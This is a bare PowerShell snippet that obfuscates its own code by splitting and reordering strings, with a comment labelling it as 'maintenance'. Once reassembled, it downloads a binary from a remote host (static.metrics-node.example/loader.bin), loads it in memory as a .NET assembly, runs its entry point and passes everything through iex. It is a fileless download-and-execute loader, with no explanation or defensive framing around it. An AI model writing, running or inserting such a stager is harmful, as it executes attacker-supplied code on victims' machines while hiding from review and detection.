iex ("{1}{2}{0}" -f 'y]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
','# maintenance 6573 v4
$b = (New-Object Net.WebClient).DownloadData(''http://static.metrics-node.example/loader.bin'')
$a = [System.Reflect','ion.Assembl')